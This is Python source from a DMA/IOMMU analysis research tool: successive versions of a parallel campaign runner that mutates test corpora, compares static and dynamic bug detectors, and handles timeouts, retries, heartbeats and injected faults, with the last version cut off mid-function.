    lines.append(format_precision_recall(
        "D-KASAN (dynamic, per corpus category)",
        score_rows(summary.dkasan)))
    lines.append("")

    if summary.coverage_seeds:
        lines.append(f"coverage: {summary.coverage_features} unique "
                     f"features across {summary.coverage_seeds} "
                     f"seed(s) ({summary.coverage_features_per_seed:.1f}"
                     f" per seed)")
    total = sum(summary.disagreements.values())
    lines.append(f"static-vs-dynamic disagreements: {total} across "
                 f"{len(summary.disagreeing_seeds)} seed(s)")
    if total:
        lines.append(render_table(
            ["verdict", "count"],
            [[verdict, str(count)] for verdict, count
             in sorted(summary.disagreements.items())]))
    if summary.spade_fn_exemplars:
        lines.append("SPADE false-negative exemplars:")
        lines.extend(f"  {e}" for e in summary.spade_fn_exemplars)
    if summary.dkasan_fn_exemplars:
        lines.append("D-KASAN false-negative exemplars:")
        lines.extend(f"  {e}" for e in summary.dkasan_fn_exemplars)
    for seed, error in summary.failures:
        lines.append(f"seed {seed} FAILED: {error}")
    return "\n".join(lines)
