"""The parallel campaign runner.

Seeds fan out over a :class:`concurrent.futures.ProcessPoolExecutor`
(``jobs`` workers) in bounded chunks; each worker enforces its own
per-seed wall-clock timeout via ``SIGALRM`` and converts every failure
-- timeout, exception, even a worker-pool collapse -- into a result
record, so one pathological seed never kills the campaign. Results
stream to JSONL the moment they arrive (see
:mod:`repro.campaign.results`), which is what makes ``--resume``
lossless.
"""

from __future__ import annotations

import signal
import time
import traceback
from concurrent.futures import ProcessPoolExecutor
from concurrent.futures.process import BrokenProcessPool
from dataclasses import dataclass
from typing import Callable

from repro import perfcache
from repro.campaign.mutate import CorpusMutator
from repro.campaign.oracle import run_differential
from repro.campaign.results import (CampaignSummary, append_record,
                                    completed_seeds, failure_record,
                                    load_records, result_record,
                                    summarize)

#: per-chunk submission factor: bounds peak queued futures while
#: keeping every worker busy between chunk boundaries
CHUNK_FACTOR = 4


@dataclass
class CampaignConfig:
    """Everything one ``repro-dma campaign`` invocation needs."""

    nr_seeds: int = 20
    seed_base: int = 1
    jobs: int = 1
    base_seed: int = 2021
    mutations_per_seed: int = 6
    timeout_s: float = 120.0
    scale: float = 1.0
    phys_mb: int = 256
    output: str | None = "campaign/results.jsonl"
    resume: bool = False
    #: flight-recorder events attached to disagreeing seeds (0 = off)
    trace_events: int = 64
    #: shared on-disk analysis cache warmed by every worker; ``None``
    #: keeps caching in-process only (see :mod:`repro.perfcache`)
    cache_dir: str | None = None

    @property
    def seeds(self) -> list[int]:
        return list(range(self.seed_base, self.seed_base + self.nr_seeds))


class _SeedTimeout(Exception):
    pass


def _alarm_handler(_signum, _frame):
    raise _SeedTimeout()


def run_seed(seed: int, *, base_seed: int = 2021,
             mutations_per_seed: int = 6, scale: float = 1.0,
             phys_mb: int = 256, trace_events: int = 64) -> dict:
    """Derive, analyze, replay, and score one campaign seed."""
    start = time.monotonic()
    mutator = CorpusMutator(base_seed, scale=scale)
    mutated = mutator.derive(seed, mutations_per_seed)
    result = run_differential(mutated.tree, mutated.manifest, seed=seed,
                              phys_mb=phys_mb,
                              trace_events=trace_events)
    return result_record(result, mutated.mutations,
                         duration_s=time.monotonic() - start)


def _guarded_run_seed(seed: int, config: "CampaignConfig", *,
                      use_alarm: bool) -> dict:
    """run_seed with crash capture and (in workers) a hard timeout."""
    start = time.monotonic()
    previous = None
    if use_alarm and hasattr(signal, "SIGALRM") and config.timeout_s:
        previous = signal.signal(signal.SIGALRM, _alarm_handler)
        signal.alarm(max(1, int(config.timeout_s)))
    try:
        return run_seed(seed, base_seed=config.base_seed,
                        mutations_per_seed=config.mutations_per_seed,
                        scale=config.scale, phys_mb=config.phys_mb,
                        trace_events=config.trace_events)
    except _SeedTimeout:
        return failure_record(seed, "timeout",
                              f"exceeded {config.timeout_s}s",
                              duration_s=time.monotonic() - start)
    except Exception:
        return failure_record(seed, "error", traceback.format_exc(),
                              duration_s=time.monotonic() - start)
    finally:
        if previous is not None:
            signal.alarm(0)
            signal.signal(signal.SIGALRM, previous)


#: set once per worker process by :func:`_init_worker`; each submitted
#: task then pickles only the seed integer instead of re-shipping the
#: whole config with every future
_WORKER_CONFIG: CampaignConfig | None = None


def _init_worker(config: "CampaignConfig") -> None:
    global _WORKER_CONFIG
    _WORKER_CONFIG = config
    if config.cache_dir:
        perfcache.configure(config.cache_dir)


def _worker(seed: int) -> dict:
    assert _WORKER_CONFIG is not None, "worker initializer did not run"
    return _guarded_run_seed(seed, _WORKER_CONFIG, use_alarm=True)


def _chunks(items: list[int], size: int) -> list[list[int]]:
    return [items[i:i + size] for i in range(0, len(items), size)]


def run_campaign(config: CampaignConfig, *,
                 progress: Callable[[dict], None] | None = None
                 ) -> CampaignSummary:
    """Run (or resume) a campaign; returns the aggregate summary."""
    existing = load_records(config.output) if config.resume \
        and config.output else {}
    done = completed_seeds(existing)
    pending = [seed for seed in config.seeds if seed not in done]
    records = {seed: record for seed, record in existing.items()
               if seed in config.seeds}

    def record_result(record: dict) -> None:
        records[record["seed"]] = record
        if config.output:
            append_record(config.output, record)
        if progress is not None:
            progress(record)

    if config.cache_dir:
        perfcache.configure(config.cache_dir)

    if config.jobs <= 1:
        for seed in pending:
            record_result(_guarded_run_seed(seed, config,
                                            use_alarm=False))
        return summarize(records)

    remaining = list(pending)
    while remaining:
        executor = ProcessPoolExecutor(max_workers=config.jobs,
                                       initializer=_init_worker,
                                       initargs=(config,))
        broken = False
        try:
            for chunk in _chunks(remaining,
                                 config.jobs * CHUNK_FACTOR):
                futures = {seed: executor.submit(_worker, seed)
                           for seed in chunk}
                for seed, future in futures.items():
                    try:
                        record = future.result()
                    except BrokenProcessPool:
                        # the pool died (e.g. a worker was OOM-killed):
                        # blame the seeds still in flight, then rebuild
                        # the pool for whatever is left
                        broken = True
                        record = failure_record(
                            seed, "crash",
                            "worker process pool collapsed")
                    record_result(record)
                    remaining.remove(seed)
                if broken:
                    break
        finally:
            executor.shutdown(wait=False, cancel_futures=True)
        if not broken:
            break
    return summarize(records)
