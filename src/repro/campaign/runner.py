"""The parallel campaign runner.

Seeds fan out over a :class:`concurrent.futures.ProcessPoolExecutor`
(``jobs`` workers) in bounded chunks; each worker enforces its own
per-seed wall-clock timeout via ``SIGALRM`` and converts every failure
-- timeout, exception, even a worker-pool collapse -- into a result
record, so one pathological seed never kills the campaign. Results
stream to JSONL the moment they arrive (see
:mod:`repro.campaign.results`), which is what makes ``--resume``
lossless.

Health telemetry: when ``heartbeat_dir`` is set, every worker rewrites
one ``worker-<pid>.json`` beat per seed (see
:mod:`repro.metrics.heartbeat`) and the parent polls the pool with a
timeout instead of blocking on each future, scanning the heartbeat
directory between polls -- so a wedged seed surfaces as a STALLED
worker on the progress line instead of a silent hang.
"""

from __future__ import annotations

import os
import signal
import time
import traceback
from concurrent.futures import FIRST_COMPLETED, ProcessPoolExecutor, wait
from concurrent.futures.process import BrokenProcessPool
from dataclasses import dataclass
from typing import Callable

from repro import metrics, perfcache
from repro.campaign.mutate import CorpusMutator
from repro.campaign.oracle import run_differential
from repro.campaign.results import (CampaignSummary, append_record,
                                    completed_seeds, failure_record,
                                    load_records, result_record,
                                    summarize)
from repro.metrics.heartbeat import (DEFAULT_STALL_AFTER_S, Heartbeat,
                                     HeartbeatMonitor, WorkerHealth)

#: per-chunk submission factor: bounds peak queued futures while
#: keeping every worker busy between chunk boundaries
CHUNK_FACTOR = 4

#: how often the parent wakes to scan heartbeats while futures run
HEARTBEAT_POLL_S = 2.0


@dataclass
class CampaignConfig:
    """Everything one ``repro-dma campaign`` invocation needs."""

    nr_seeds: int = 20
    seed_base: int = 1
    jobs: int = 1
    base_seed: int = 2021
    mutations_per_seed: int = 6
    timeout_s: float = 120.0
    scale: float = 1.0
    phys_mb: int = 256
    output: str | None = "campaign/results.jsonl"
    resume: bool = False
    #: flight-recorder events attached to disagreeing seeds (0 = off)
    trace_events: int = 64
    #: shared on-disk analysis cache warmed by every worker; ``None``
    #: keeps caching in-process only (see :mod:`repro.perfcache`)
    cache_dir: str | None = None
    #: worker heartbeat files land here; ``None`` disables telemetry
    heartbeat_dir: str | None = None
    #: a worker silent for longer than this is flagged as stalled
    stall_after_s: float = DEFAULT_STALL_AFTER_S

    @property
    def seeds(self) -> list[int]:
        return list(range(self.seed_base, self.seed_base + self.nr_seeds))


class _SeedTimeout(Exception):
    pass


def _alarm_handler(_signum, _frame):
    raise _SeedTimeout()


def run_seed(seed: int, *, base_seed: int = 2021,
             mutations_per_seed: int = 6, scale: float = 1.0,
             phys_mb: int = 256, trace_events: int = 64) -> dict:
    """Derive, analyze, replay, and score one campaign seed."""
    start = time.monotonic()
    mutator = CorpusMutator(base_seed, scale=scale)
    mutated = mutator.derive(seed, mutations_per_seed)
    result = run_differential(mutated.tree, mutated.manifest, seed=seed,
                              phys_mb=phys_mb,
                              trace_events=trace_events)
    return result_record(result, mutated.mutations,
                         duration_s=time.monotonic() - start)


def _guarded_run_seed(seed: int, config: "CampaignConfig", *,
                      use_alarm: bool) -> dict:
    """run_seed with crash capture and (in workers) a hard timeout."""
    start = time.monotonic()
    previous = None
    if use_alarm and hasattr(signal, "SIGALRM") and config.timeout_s:
        previous = signal.signal(signal.SIGALRM, _alarm_handler)
        signal.alarm(max(1, int(config.timeout_s)))
    try:
        return run_seed(seed, base_seed=config.base_seed,
                        mutations_per_seed=config.mutations_per_seed,
                        scale=config.scale, phys_mb=config.phys_mb,
                        trace_events=config.trace_events)
    except _SeedTimeout:
        return failure_record(seed, "timeout",
                              f"exceeded {config.timeout_s}s",
                              duration_s=time.monotonic() - start)
    except Exception:
        return failure_record(seed, "error", traceback.format_exc(),
                              duration_s=time.monotonic() - start)
    finally:
        if previous is not None:
            signal.alarm(0)
            signal.signal(signal.SIGALRM, previous)


#: set once per worker process by :func:`_init_worker`; each submitted
#: task then pickles only the seed integer instead of re-shipping the
#: whole config with every future
_WORKER_CONFIG: CampaignConfig | None = None
_WORKER_HEARTBEAT: Heartbeat | None = None
_WORKER_SEEDS_DONE = 0


def _init_worker(config: "CampaignConfig") -> None:
    global _WORKER_CONFIG, _WORKER_HEARTBEAT, _WORKER_SEEDS_DONE
    _WORKER_CONFIG = config
    _WORKER_SEEDS_DONE = 0
    if config.cache_dir:
        perfcache.configure(config.cache_dir)
    if config.heartbeat_dir:
        _WORKER_HEARTBEAT = Heartbeat(config.heartbeat_dir,
                                      str(os.getpid()))
        _WORKER_HEARTBEAT.beat(stage="idle", seeds_done=0)
    else:
        _WORKER_HEARTBEAT = None


def _worker(seed: int) -> dict:
    global _WORKER_SEEDS_DONE
    assert _WORKER_CONFIG is not None, "worker initializer did not run"
    beat = _WORKER_HEARTBEAT
    if beat is not None:
        beat.beat(stage="running", seed=seed,
                  seeds_done=_WORKER_SEEDS_DONE)
    record = _guarded_run_seed(seed, _WORKER_CONFIG, use_alarm=True)
    _WORKER_SEEDS_DONE += 1
    if beat is not None:
        beat.beat(stage="idle", seed=seed,
                  seeds_done=_WORKER_SEEDS_DONE)
    if _WORKER_CONFIG.cache_dir:
        # lock-free: each process only ever overwrites its own file
        perfcache.default_cache().persist_stats()
    return record


def _chunks(items: list[int], size: int) -> list[list[int]]:
    return [items[i:i + size] for i in range(0, len(items), size)]


def run_campaign(config: CampaignConfig, *,
                 progress: Callable[[dict], None] | None = None,
                 heartbeat: Callable[[list[WorkerHealth]], None]
                 | None = None) -> CampaignSummary:
    """Run (or resume) a campaign; returns the aggregate summary.

    *heartbeat*, if given, is called with the latest
    :class:`~repro.metrics.heartbeat.WorkerHealth` list every poll
    interval (requires ``config.heartbeat_dir``).
    """
    existing = load_records(config.output) if config.resume \
        and config.output else {}
    done = completed_seeds(existing)
    pending = [seed for seed in config.seeds if seed not in done]
    records = {seed: record for seed, record in existing.items()
               if seed in config.seeds}

    def record_result(record: dict) -> None:
        records[record["seed"]] = record
        if config.output:
            append_record(config.output, record)
        metrics.count("campaign", "seeds", status=record["status"])
        if record.get("disagreements"):
            metrics.count("campaign", "disagreements",
                          len(record["disagreements"]))
        if progress is not None:
            progress(record)

    monitor = None
    if config.heartbeat_dir:
        monitor = HeartbeatMonitor(config.heartbeat_dir,
                                   stall_after_s=config.stall_after_s)
        monitor.clear()

    def poll_heartbeats() -> None:
        if heartbeat is not None and monitor is not None:
            heartbeat(monitor.scan())

    if config.cache_dir:
        perfcache.configure(config.cache_dir)

    if config.jobs <= 1:
        beat = Heartbeat(config.heartbeat_dir, "main") \
            if config.heartbeat_dir else None
        for nr_done, seed in enumerate(pending):
            if beat is not None:
                beat.beat(stage="running", seed=seed,
                          seeds_done=nr_done)
            record_result(_guarded_run_seed(seed, config,
                                            use_alarm=False))
            if beat is not None:
                beat.beat(stage="idle", seed=seed,
                          seeds_done=nr_done + 1)
            poll_heartbeats()
        if config.cache_dir:
            perfcache.default_cache().persist_stats()
        return summarize(records)

    remaining = list(pending)
    while remaining:
        executor = ProcessPoolExecutor(max_workers=config.jobs,
                                       initializer=_init_worker,
                                       initargs=(config,))
        broken = False
        try:
            for chunk in _chunks(remaining,
                                 config.jobs * CHUNK_FACTOR):
                seed_of = {executor.submit(_worker, seed): seed
                           for seed in chunk}
                not_done = set(seed_of)
                while not_done:
                    finished, not_done = wait(
                        not_done, timeout=HEARTBEAT_POLL_S,
                        return_when=FIRST_COMPLETED)
                    for future in finished:
                        seed = seed_of[future]
                        try:
                            record = future.result()
                        except BrokenProcessPool:
                            # the pool died (e.g. a worker was
                            # OOM-killed): blame the seeds still in
                            # flight, then rebuild the pool for
                            # whatever is left
                            broken = True
                            record = failure_record(
                                seed, "crash",
                                "worker process pool collapsed")
                        record_result(record)
                        remaining.remove(seed)
                    poll_heartbeats()
                if broken:
                    break
        finally:
            executor.shutdown(wait=False, cancel_futures=True)
        if not broken:
            break
    return summarize(records)
