"""The parallel campaign runner.

Built for raw throughput: seeds fan out over long-lived **warm
workers** (a ``ProcessPoolExecutor`` whose initializer runs once per
process: configure the shared cache, adopt the parent's base-corpus
snapshot, compile nothing per task) and travel in **batches** -- the
parent sizes each task to carry at least
:attr:`CampaignConfig.batch_target_s` of work (adaptive, from an EWMA
of observed per-seed duration), so submit/pickle/result IPC is paid
per batch instead of per seed. The base corpus itself is materialized
exactly once into a content-addressed mmap-friendly snapshot (see
:mod:`repro.campaign.snapshot`) that every worker opens read-only;
:meth:`~repro.campaign.mutate.CorpusMutator.base_view` then serves
every seed from the same in-memory tree with zero corpus copies.

Each worker enforces its own per-seed wall-clock timeout via
``SIGALRM`` and converts every failure -- timeout, exception, even a
worker-pool collapse -- into a result record, so one pathological
seed never kills the campaign. Results stream to JSONL the moment
they arrive (see :mod:`repro.campaign.results`), which is what makes
``--resume`` lossless.

Health telemetry: when ``heartbeat_dir`` is set, every worker rewrites
one ``worker-<pid>.json`` beat per **seed** -- not per task -- so a
long healthy batch never reads as silence (see
:mod:`repro.metrics.heartbeat`); the parent polls the pool with a
timeout instead of blocking on each future, scanning the heartbeat
directory between polls, so a wedged seed surfaces as a STALLED
worker on the progress line instead of a silent hang.

Self-healing: ``retry`` grants every failing seed a bounded number of
re-runs (with deterministic jittered backoff when ``backoff_s`` is
set), and ``retry_stalled`` upgrades the STALLED flag into recovery --
the parent SIGKILLs the silent worker, lets the pool collapse and
rebuild, records the victim seed as ``stalled``, and requeues it;
innocent seeds that were in flight in the same pool (including the
victim batch's other seeds) are requeued without charging their retry
budget. ``fault_spec`` arms a per-seed
:class:`~repro.faults.FaultPlan` (stream = seed, attempt = retry
number) inside :func:`_guarded_run_seed`, which is how the chaos
harness injects worker crashes and cache I/O errors deterministically;
the batch-lifecycle site ``campaign.batch.crash`` additionally fires
once per batch (stream = the batch's first seed) and takes the whole
batch down, exercising the parent's batch-failure requeue path.
"""

from __future__ import annotations

import math
import os
import random
import shutil
import signal
import sys
import tempfile
import time
import traceback
from collections import Counter, deque
from concurrent.futures import FIRST_COMPLETED, ProcessPoolExecutor, wait
from concurrent.futures.process import BrokenProcessPool
from dataclasses import dataclass
from typing import Callable

from repro import durability, faults, metrics, perfcache
from repro.campaign import snapshot as snapshot_store
from repro.coverage import CoverageMap, coverage_map_path
from repro.campaign.mutate import CorpusMutator
from repro.campaign.oracle import run_differential
from repro.campaign.results import (CampaignSummary, append_record,
                                    completed_seeds, failure_record,
                                    load_records, result_record,
                                    summarize)
from repro.metrics.heartbeat import (DEFAULT_STALL_AFTER_S, Heartbeat,
                                     HeartbeatMonitor, WorkerHealth)

#: in-flight task factor: the parent keeps at most ``jobs * 2`` batch
#: futures queued, enough to hide result-processing latency without
#: hoarding seeds in oversized batches
INFLIGHT_FACTOR = 2

#: how often the parent wakes to scan heartbeats while futures run
HEARTBEAT_POLL_S = 2.0

#: retry backoff sleeps are capped here no matter the configuration
MAX_BACKOFF_S = 5.0

#: default adaptive-batching target: at least this much work per task
DEFAULT_BATCH_TARGET_S = 0.05

#: adaptive batches never exceed this many seeds
DEFAULT_MAX_BATCH = 64

#: EWMA smoothing for the observed per-seed duration
_EWMA_ALPHA = 0.3


@dataclass
class CampaignConfig:
    """Everything one ``repro-dma campaign`` invocation needs."""

    nr_seeds: int = 20
    seed_base: int = 1
    jobs: int = 1
    base_seed: int = 2021
    mutations_per_seed: int = 6
    timeout_s: float = 120.0
    scale: float = 1.0
    phys_mb: int = 256
    output: str | None = "campaign/results.jsonl"
    resume: bool = False
    #: flight-recorder events attached to disagreeing seeds (0 = off)
    trace_events: int = 64
    #: shared on-disk analysis cache warmed by every worker; ``None``
    #: keeps caching in-process only (see :mod:`repro.perfcache`)
    cache_dir: str | None = None
    #: worker heartbeat files land here; ``None`` disables telemetry
    heartbeat_dir: str | None = None
    #: a worker silent for longer than this is flagged as stalled
    stall_after_s: float = DEFAULT_STALL_AFTER_S
    #: re-run a failing seed (error/timeout/crash/fault) up to N times
    retry: int = 0
    #: SIGKILL + requeue a STALLED worker's seed up to N times
    retry_stalled: int = 0
    #: base for the deterministic jittered sleep before a retry
    backoff_s: float = 0.0
    #: JSON form of a :class:`repro.faults.FaultSpec`; each seed run
    #: compiles it with stream=seed, attempt=retry-number
    fault_spec: dict | None = None
    #: IOMMU backend model for the dynamic replay; ``None`` (or
    #: ``"intel-vtd"``) is the pre-backend default path
    backend: str | None = None
    #: root for the shared base-corpus snapshot workers map read-only;
    #: ``None`` derives one from ``cache_dir`` (or a temp dir)
    snapshot_dir: str | None = None
    #: adaptive batching: target at least this much work per task
    batch_target_s: float = DEFAULT_BATCH_TARGET_S
    #: adaptive batching: hard per-batch seed cap
    max_batch: int = DEFAULT_MAX_BATCH
    #: attach a deterministic per-seed coverage signature to every
    #: result and accumulate the campaign CoverageMap (see
    #: :mod:`repro.coverage`)
    coverage: bool = True

    @property
    def seeds(self) -> list[int]:
        return list(range(self.seed_base, self.seed_base + self.nr_seeds))


class _SeedTimeout(Exception):
    pass


def _alarm_handler(_signum, _frame):
    raise _SeedTimeout()


def run_seed(seed: int, *, base_seed: int = 2021,
             mutations_per_seed: int = 6, scale: float = 1.0,
             phys_mb: int = 256, trace_events: int = 64,
             backend: str | None = None,
             mutator: CorpusMutator | None = None,
             coverage: bool = True) -> dict:
    """Derive, analyze, replay, and score one campaign seed.

    *mutator*, when given, is a warm :class:`CorpusMutator` whose base
    corpus is already materialized (the worker-process fast path); it
    must match *base_seed*/*scale*.
    """
    start = time.monotonic()
    if mutator is None:
        mutator = CorpusMutator(base_seed, scale=scale)
    mutated = mutator.derive(seed, mutations_per_seed)
    result = run_differential(mutated.tree, mutated.manifest, seed=seed,
                              phys_mb=phys_mb,
                              trace_events=trace_events,
                              backend=backend, coverage=coverage)
    return result_record(result, mutated.mutations,
                         duration_s=time.monotonic() - start)


def _guarded_run_seed(seed: int, config: "CampaignConfig", *,
                      use_alarm: bool, attempt: int = 0,
                      mutator: CorpusMutator | None = None) -> dict:
    """run_seed with crash capture, optional fault plan, and (in
    workers) a hard timeout."""
    start = time.monotonic()
    plan = None
    if config.fault_spec:
        plan = faults.FaultSpec.from_json(config.fault_spec).compile(
            stream=seed, attempt=attempt)
    previous = None
    if use_alarm and hasattr(signal, "SIGALRM") and config.timeout_s:
        previous = signal.signal(signal.SIGALRM, _alarm_handler)
        signal.alarm(max(1, int(config.timeout_s)))
    try:
        with faults.session(plan):
            if "campaign.worker.crash" in faults.active_sites \
                    and faults.fires("campaign.worker.crash"):
                raise faults.InjectedWorkerCrash("campaign.worker.crash")
            if "campaign.worker.hang" in faults.active_sites:
                hang = faults.fires("campaign.worker.hang")
                if hang is not None:
                    time.sleep(hang.arg or 30.0)
            record = run_seed(seed, base_seed=config.base_seed,
                              mutations_per_seed=config.mutations_per_seed,
                              scale=config.scale, phys_mb=config.phys_mb,
                              trace_events=config.trace_events,
                              backend=config.backend,
                              mutator=mutator,
                              coverage=config.coverage)
    except _SeedTimeout:
        record = failure_record(seed, "timeout",
                                f"exceeded {config.timeout_s}s",
                                duration_s=time.monotonic() - start)
    except faults.InjectedFault as exc:
        # an injected fault escaped every recovery path: name the site
        record = failure_record(seed, "fault",
                                f"injected fault at {exc.site}",
                                duration_s=time.monotonic() - start)
    except Exception:
        record = failure_record(seed, "error", traceback.format_exc(),
                                duration_s=time.monotonic() - start)
    finally:
        if previous is not None:
            signal.alarm(0)
            signal.signal(signal.SIGALRM, previous)
    if attempt:
        record["attempt"] = attempt
    return record


#: set once per worker process by :func:`_init_worker`; each submitted
#: task then pickles only its seed batch instead of re-shipping the
#: whole config (or the corpus) with every future
_WORKER_CONFIG: CampaignConfig | None = None
_WORKER_HEARTBEAT: Heartbeat | None = None
_WORKER_MUTATOR: CorpusMutator | None = None
_WORKER_SEEDS_DONE = 0
_WORKER_BATCHES_DONE = 0


def _init_worker(config: "CampaignConfig",
                 snapshot_path: str | None = None) -> None:
    """One-time per-process warm-up: this is what makes workers warm.

    Configures the shared disk cache, builds the process's one
    :class:`CorpusMutator`, and materializes its base corpus -- from
    the parent's read-only snapshot when one exists, else from the
    cache/regenerate path. Every batch the worker later pulls reuses
    all of it; no per-task setup remains.
    """
    global _WORKER_CONFIG, _WORKER_HEARTBEAT, _WORKER_MUTATOR
    global _WORKER_SEEDS_DONE, _WORKER_BATCHES_DONE
    # a crashtest kill must land in the *coordinating* process, never
    # nondeterministically in whichever worker wrote first
    durability.disarm_crash_points()
    _WORKER_CONFIG = config
    _WORKER_SEEDS_DONE = 0
    _WORKER_BATCHES_DONE = 0
    if config.cache_dir:
        perfcache.configure(config.cache_dir)
    if config.heartbeat_dir:
        _WORKER_HEARTBEAT = Heartbeat(config.heartbeat_dir,
                                      str(os.getpid()))
        _WORKER_HEARTBEAT.beat(stage="warmup", seeds_done=0)
    else:
        _WORKER_HEARTBEAT = None
    _WORKER_MUTATOR = CorpusMutator(config.base_seed,
                                    scale=config.scale)
    adopted = False
    if snapshot_path:
        adopted = snapshot_store.adopt(_WORKER_MUTATOR, snapshot_path)
    if not adopted:
        # no (or torn) snapshot: warm from the cache/regenerate path
        # once, here, instead of lazily inside the first seed
        _WORKER_MUTATOR.base_view()
    if _WORKER_HEARTBEAT is not None:
        _WORKER_HEARTBEAT.beat(stage="idle", seeds_done=0)


def _worker_batch(seeds: list[int], attempts: list[int]) -> list[dict]:
    """Run one seed batch in a warm worker; returns one record per
    seed. Heartbeats update per seed *within* the batch, so stall
    detection keeps seed granularity no matter the batch size."""
    global _WORKER_SEEDS_DONE, _WORKER_BATCHES_DONE
    config = _WORKER_CONFIG
    assert config is not None, "worker initializer did not run"
    beat = _WORKER_HEARTBEAT
    if config.fault_spec:
        # batch-lifecycle fault site: one poke per batch, stream keyed
        # by the batch's first seed. A firing takes the whole batch
        # down (the parent requeues every seed in it).
        batch_plan = faults.FaultSpec.from_json(
            config.fault_spec).compile(stream=seeds[0],
                                       attempt=attempts[0])
        with faults.session(batch_plan):
            if "campaign.batch.crash" in faults.active_sites \
                    and faults.fires("campaign.batch.crash"):
                raise faults.InjectedWorkerCrash("campaign.batch.crash")
    records = []
    for position, (seed, attempt) in enumerate(zip(seeds, attempts)):
        if beat is not None:
            beat.beat(stage="running", seed=seed,
                      seeds_done=_WORKER_SEEDS_DONE,
                      batch_index=_WORKER_BATCHES_DONE,
                      batch_position=position, batch_size=len(seeds))
        records.append(_guarded_run_seed(seed, config, use_alarm=True,
                                         attempt=attempt,
                                         mutator=_WORKER_MUTATOR))
        _WORKER_SEEDS_DONE += 1
    _WORKER_BATCHES_DONE += 1
    if beat is not None:
        beat.beat(stage="idle", seed=seeds[-1],
                  seeds_done=_WORKER_SEEDS_DONE)
    if config.cache_dir:
        # lock-free (each process only ever overwrites its own file),
        # and amortized: once per batch, not per seed
        perfcache.default_cache().persist_stats()
    return records


def _batch_size(avg_seed_s: float | None, nr_pending: int, jobs: int, *,
                target_s: float, max_batch: int) -> int:
    """Adaptive batch sizing: ≥ *target_s* of work per task, but never
    so large that workers idle while one hoards the tail of the queue."""
    if avg_seed_s and avg_seed_s > 0:
        by_time = math.ceil(target_s / avg_seed_s)
    else:
        by_time = 1   # no measurement yet: smallest batch, fastest probe
    fair_share = math.ceil(nr_pending / max(1, jobs * INFLIGHT_FACTOR))
    return max(1, min(by_time, fair_share, max_batch))


def run_campaign(config: CampaignConfig, *,
                 progress: Callable[[dict], None] | None = None,
                 heartbeat: Callable[[list[WorkerHealth]], None]
                 | None = None) -> CampaignSummary:
    """Run (or resume) a campaign; returns the aggregate summary.

    *heartbeat*, if given, is called with the latest
    :class:`~repro.metrics.heartbeat.WorkerHealth` list every poll
    interval (requires ``config.heartbeat_dir``).
    """
    if config.output:
        # a previous run killed mid-write leaves .durability-*.tmp
        # residue beside the artifacts; collect anything stale enough
        # that no live writer can own it
        durability.collect_stale_tmp(os.path.dirname(config.output)
                                     or ".")
    if config.heartbeat_dir and os.path.isdir(config.heartbeat_dir):
        durability.collect_stale_tmp(config.heartbeat_dir)
    existing: dict[int, dict] = {}
    if config.resume and config.output:
        bad_lines: list[int] = []
        existing = load_records(
            config.output,
            on_bad_line=lambda lineno, _line: bad_lines.append(lineno))
        if bad_lines:
            shown = ", ".join(map(str, bad_lines[:8]))
            print(f"campaign: warning: {config.output}: skipped "
                  f"{len(bad_lines)} truncated/corrupt record line(s) "
                  f"({shown}); the affected seeds will be re-run",
                  file=sys.stderr)
    done = completed_seeds(existing)
    pending = [seed for seed in config.seeds if seed not in done]
    records = {seed: record for seed, record in existing.items()
               if seed in config.seeds}

    #: the campaign-wide CoverageMap, accumulated as results land and
    #: persisted beside the results file; resumed records are folded
    #: in up front so the map always covers every completed seed
    cover = CoverageMap() if config.coverage else None
    nr_novelty_free = 0   # consecutive completed seeds with 0 novelty
    if cover is not None:
        for seed in sorted(records):
            cover.observe_record(records[seed])

    def finish() -> CampaignSummary:
        if cover is not None and config.output:
            cover.save(coverage_map_path(config.output))
        return summarize(records)

    #: retry bookkeeping: budget spent per seed, and the attempt
    #: number the seed's next run carries (drives fault-plan derivation)
    error_retries: Counter = Counter()
    stall_retries: Counter = Counter()
    tries: Counter = Counter()
    requeued: list[int] = []
    backoff_rng = random.Random((config.base_seed << 16)
                                ^ config.seed_base)

    def record_result(record: dict) -> None:
        seed = record["seed"]
        status = record["status"]
        retryable = status == "stalled" \
            and stall_retries[seed] < config.retry_stalled
        retryable = retryable or (status not in ("ok", "stalled")
                                  and error_retries[seed] < config.retry)
        if retryable:
            if status == "stalled":
                stall_retries[seed] += 1
            else:
                error_retries[seed] += 1
            tries[seed] += 1
            record["will_retry"] = True
            requeued.append(seed)
            if config.output:
                # the failed attempt stays in the JSONL audit trail;
                # the eventual completed record supersedes it
                append_record(config.output, record)
            metrics.count("campaign", "retries", status=status)
            if progress is not None:
                progress(record)
            if config.backoff_s > 0:
                jitter = 0.5 + backoff_rng.random()
                time.sleep(min(config.backoff_s * jitter,
                               MAX_BACKOFF_S))
            return
        records[seed] = record
        if config.output:
            append_record(config.output, record)
        metrics.count("campaign", "seeds", status=record["status"])
        if record.get("disagreements"):
            metrics.count("campaign", "disagreements",
                          len(record["disagreements"]))
        if cover is not None and record.get("coverage"):
            nonlocal nr_novelty_free
            novel = cover.observe_record(record)
            nr_novelty_free = 0 if novel else nr_novelty_free + 1
            metrics.set_gauge("coverage", "features_total",
                              cover.nr_features)
            metrics.observe("coverage", "novel_features", novel)
            metrics.set_gauge("coverage", "saturation_seeds",
                              nr_novelty_free)
        if progress is not None:
            progress(record)

    monitor = None
    if config.heartbeat_dir:
        monitor = HeartbeatMonitor(config.heartbeat_dir,
                                   stall_after_s=config.stall_after_s)
        monitor.clear()

    if config.cache_dir:
        perfcache.configure(config.cache_dir)

    if config.jobs <= 1:
        beat = Heartbeat(config.heartbeat_dir, "main") \
            if config.heartbeat_dir else None
        # one warm mutator for the whole inline run: the base corpus
        # is materialized once, every seed derives from the same view
        mutator = CorpusMutator(config.base_seed, scale=config.scale)
        queue = deque(pending)
        nr_done = 0
        while queue:
            seed = queue.popleft()
            if beat is not None:
                beat.beat(stage="running", seed=seed,
                          seeds_done=nr_done)
            record_result(_guarded_run_seed(seed, config,
                                            use_alarm=False,
                                            attempt=tries[seed],
                                            mutator=mutator))
            if requeued:
                queue.extend(requeued)
                requeued.clear()
            nr_done += 1
            if beat is not None:
                beat.beat(stage="idle", seed=seed, seeds_done=nr_done)
            if heartbeat is not None and monitor is not None:
                heartbeat(monitor.scan())
        if config.cache_dir:
            perfcache.default_cache().persist_stats()
        return finish()

    # -- parallel mode: snapshot once, then warm batched workers -------------

    snapshot_path = None
    scratch_snapshot_root = None
    if pending:
        snapshot_root = config.snapshot_dir
        if not snapshot_root and config.cache_dir:
            snapshot_root = os.path.join(config.cache_dir, "snapshots")
        if not snapshot_root:
            scratch_snapshot_root = tempfile.mkdtemp(
                prefix="repro-campaign-snap-")
